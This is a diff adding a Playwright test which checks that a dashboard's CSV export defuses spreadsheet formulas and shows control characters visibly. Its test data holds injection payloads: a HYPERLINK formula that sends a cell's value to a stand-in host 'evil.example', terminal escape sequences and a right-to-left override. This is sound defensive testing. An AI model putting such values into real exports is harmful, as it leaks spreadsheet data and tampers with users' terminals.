@@ -18,6 +18,7 @@ import httpx
 import pytest
 from playwright.sync_api import Locator, Page, expect
 
+from pkgcat.cli._safe import spreadsheet_cell, visible
 from pkgcat.storage.admin import CatalogueAdmin
 from tests.browser.conftest import Watched
 from tests.servers import Served, environment, seed, serving, stop
@@ -327,3 +328,32 @@ def test_rate_limited_then_the_server_down(tmp_path: Path, watched: Watched) -> 
         expect(notice).to_have_attribute("data-kind", "down")
         expect(notice).to_contain_text("cannot be reached")
         watched.snap("server-down")
+
+
+CSV_MODULE = "async (rows) => (await import('/dashboard/assets/csv.js')).toCsv(['nickname'], rows)"
+
+
+def test_csv_files_defuse_formulas_and_show_control_characters(
+    served: Served, watched: Watched
+) -> None:
+    # Nicknames as a storefront may send them; the dashboard's CSV follows the CLI's rule.
+    hostile = [
+        '=HYPERLINK("http://evil.example/?x="&B2;"open")',
+        "+A1",
+        "-2+3",
+        "@SUM(1)",
+        "\tTAB",
+        "\rCR",
+        "\x1b]2;owned\x07",
+        "clear\x1b[2J",
+        "right\u202eleft",
+        "-1.50",
+        "plain",
+    ]
+    watched.page.goto(f"{served.base}/dashboard")
+    text = watched.page.evaluate(CSV_MODULE, [{"nickname": value} for value in hostile])
+    cells = [row["nickname"] for row in csv.DictReader(io.StringIO(text))]
+    assert cells == [visible(spreadsheet_cell(value)) for value in hostile]
+    assert cells[0].startswith("'=HYPERLINK(")
+    assert cells[6] == "\\x1b]2;owned\\x07"
+    assert cells[9] == "-1.50"
